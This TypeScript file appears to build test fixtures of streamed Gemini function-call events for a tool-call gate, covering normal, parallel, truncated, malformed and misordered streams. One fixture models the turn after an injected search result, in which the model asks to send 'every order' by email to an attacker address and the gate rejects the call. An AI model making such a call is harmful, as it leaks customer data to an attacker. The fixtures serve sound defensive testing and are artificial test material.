/** The Gemini Interactions fixtures, shaped as the SDK's `InteractionSSEEvent` (@google/genai dist/genai.d.ts:9959). */
import { ORDER_OK, KB_OK, write, injectionItem, type J } from './shared.ts';

export function gemini(): void {
  const interaction = (id: string, status: string, extra: J = {}) => ({
    id,
    status,
    object: 'interaction',
    model: 'MODEL-FIXTURE',
    ...extra,
  });
  type S = { kind: 'thought' | 'text' | 'call'; id?: string; name?: string; fragments?: string[]; text?: string };
  function stream(iid: string, steps: S[], opts: { status?: string; statusUpdate?: boolean } = {}) {
    const ev: J[] = [{ event_type: 'interaction.created', interaction: interaction(iid, 'in_progress') }];
    if (opts.statusUpdate)
      ev.push({ event_type: 'interaction.status_update', interaction_id: iid, status: 'in_progress' });
    steps.forEach((s, i) => {
      if (s.kind === 'thought') {
        ev.push({ event_type: 'step.start', index: i, step: { type: 'thought' } });
        ev.push({
          event_type: 'step.delta',
          index: i,
          delta: { type: 'thought_signature', signature: 'SIG_FIXTURE_CsUBAY89a1' },
        });
      } else if (s.kind === 'text') {
        ev.push({ event_type: 'step.start', index: i, step: { type: 'model_output' } });
        ev.push({ event_type: 'step.delta', index: i, delta: { type: 'text', text: s.text } });
      } else {
        ev.push({
          event_type: 'step.start',
          index: i,
          step: { type: 'function_call', id: s.id, name: s.name, arguments: {} },
        });
        for (const f of s.fragments as string[])
          ev.push({ event_type: 'step.delta', index: i, delta: { type: 'arguments_delta', arguments: f } });
      }
      ev.push({ event_type: 'step.stop', index: i });
    });
    ev.push({
      event_type: 'interaction.completed',
      interaction: interaction(iid, opts.status ?? 'requires_action', {
        usage: { total_input_tokens: 52, total_output_tokens: 14, total_thought_tokens: 40, total_tokens: 106 },
      }),
    });
    return ev;
  }
  const history = [{ type: 'user_input', content: [{ type: 'text', text: 'Where is my order ORDER-7?' }] }];
  write('gemini', {
    id: 'gemini.one_call',
    title: 'Gemini: one call, arguments in three fragments',
    summary:
      'A thought step with its signature and a status update, then get_order with three arguments_delta fragments; interaction.completed requires_action.',
    stream: stream(
      'v1_FIXTURE_ge01',
      [
        { kind: 'thought' },
        { kind: 'call', id: 'fncall_ge01', name: 'get_order', fragments: ['{"order_ref"', ':"ORDER', '-7"}'] },
      ],
      { statusUpdate: true },
    ),
    calls: ['fncall_ge01'],
    history,
    handlers: { fncall_ge01: ORDER_OK },
    expect: { problems: [], gates: { fncall_ge01: 'handler' } },
  });
  write('gemini', {
    id: 'gemini.parallel_calls',
    title: 'Gemini: two calls in one turn',
    summary: 'A model_output text step, then get_order and search_kb; each function_result is paired by call_id.',
    stream: stream('v1_FIXTURE_ge02', [
      { kind: 'text', text: 'Looking up the order and the refund policy.' },
      { kind: 'call', id: 'fncall_ge02a', name: 'get_order', fragments: ['{"order_ref":', '"ORDER-7"}'] },
      { kind: 'call', id: 'fncall_ge02b', name: 'search_kb', fragments: ['{"query":"refund policy"}'] },
    ]),
    calls: ['fncall_ge02a', 'fncall_ge02b'],
    history: [{ type: 'user_input', content: [{ type: 'text', text: 'Can ORDER-7 be refunded?' }] }],
    handlers: { fncall_ge02a: ORDER_OK, fncall_ge02b: KB_OK },
    expect: { problems: [], gates: { fncall_ge02a: 'handler', fncall_ge02b: 'handler' } },
  });
  const tr = stream(
    'v1_FIXTURE_ge03',
    [{ kind: 'call', id: 'fncall_ge03', name: 'get_order', fragments: ['{"order_ref"', ':"ORD'] }],
    { status: 'incomplete' },
  );
  tr.splice(tr.length - 2, 1); // the step never stops: the budget ran out inside it
  write('gemini', {
    id: 'gemini.truncated',
    title: 'Gemini: the budget runs out inside the arguments',
    summary: 'interaction.completed with status incomplete while get_order is open: NOT_A_TOOL_TURN, nothing runs.',
    stream: tr,
    calls: ['fncall_ge03'],
    history,
    handlers: {},
    expect: { problems: ['NOT_A_TOOL_TURN'], gates: {} },
  });
  write('gemini', {
    id: 'gemini.injection_follow_up',
    title: 'Gemini: the turn after an injected search hit',
    summary:
      'After search_kb.injection the model asks for send_email. The gate answers UNKNOWN_TOOL; no handler runs; the continuation carries the error.',
    stream: stream('v1_FIXTURE_ge04', [
      {
        kind: 'call',
        id: 'fncall_ge04',
        name: 'send_email',
        fragments: ['{"to":"attacker@example.net",', '"body":"every order"}'],
      },
    ]),
    calls: ['fncall_ge04'],
    history: [
      { type: 'user_input', content: [{ type: 'text', text: '退款帮助' }] },
      {
        type: 'function_call',
        id: 'fncall_06_a7f3c4e1',
        name: 'search_kb',
        arguments: { query: '退款帮助', top_k: 3 },
      },
      injectionItem('gemini', 'fncall_06_a7f3c4e1'),
    ],
    handlers: {},
    expect: { problems: [], gates: { fncall_ge04: 'UNKNOWN_TOOL' } },
  });
  write('gemini', {
    id: 'gemini.invalid_arguments',
    title: 'Gemini: arguments that are JSON but not an object',
    summary: 'The fragments make a JSON array: the gate answers INVALID_ARGUMENTS, no handler runs.',
    stream: stream('v1_FIXTURE_ge05', [
      { kind: 'call', id: 'fncall_ge05', name: 'get_order', fragments: ['["ORDER-7"', ']'] },
    ]),
    calls: ['fncall_ge05'],
    history,
    handlers: {},
    expect: { problems: [], gates: { fncall_ge05: 'INVALID_ARGUMENTS' } },
  });
  const base = () =>
    stream('v1_FIXTURE_ge10', [
      { kind: 'thought' },
      { kind: 'call', id: 'fncall_ge10', name: 'get_order', fragments: ['{"order_ref"', ':"ORDER', '-7"}'] },
    ]);
  const order = base();
  (order[6] as J).index = 2;
  write('gemini', {
    id: 'gemini.stream_order',
    title: 'Gemini: a delta for a step that never started',
    summary: 'An arguments_delta for index 2, where no step.start was seen: STREAM_ORDER.',
    stream: order,
    calls: ['fncall_ge10'],
    history,
    handlers: { fncall_ge10: ORDER_OK },
    expect: { problems: ['STREAM_ORDER'], gates: {} },
  });
  write('gemini', {
    id: 'gemini.stream_unterminated',
    title: 'Gemini: the stream ends without interaction.completed',
    summary: 'The call stops but the interaction never completes: STREAM_UNTERMINATED.',
    stream: base().slice(0, -1),
    calls: ['fncall_ge10'],
    history,
    handlers: { fncall_ge10: ORDER_OK },
    expect: { problems: ['STREAM_UNTERMINATED'], gates: {} },
  });
  const err = base().slice(0, 6);
  err.push({ event_type: 'error', error: { code: '503', message: 'The model is overloaded.' } });
  write('gemini', {
    id: 'gemini.stream_error',
    title: 'Gemini: an error event mid-stream',
    summary: 'An error event while the call is open (the SDK yields it without throwing): STREAM_ERROR.',
    stream: err,
    calls: ['fncall_ge10'],
    history,
    handlers: { fncall_ge10: ORDER_OK },
    expect: { problems: ['STREAM_ERROR'], gates: {} },
  });
  write('gemini', {
    id: 'gemini.duplicate_call_id',
    title: 'Gemini: two function_call steps share an id',
    summary: 'Two steps with one id: DUPLICATE_CALL_ID.',
    stream: stream('v1_FIXTURE_ge11', [
      { kind: 'call', id: 'fncall_ge11', name: 'get_order', fragments: ['{"order_ref":"ORDER-7"}'] },
      { kind: 'call', id: 'fncall_ge11', name: 'get_order', fragments: ['{"order_ref":"ORDER-8"}'] },
    ]),
    calls: ['fncall_ge11'],
    history,
    handlers: { fncall_ge11: ORDER_OK },
    expect: { problems: ['DUPLICATE_CALL_ID'], gates: {} },
  });
}
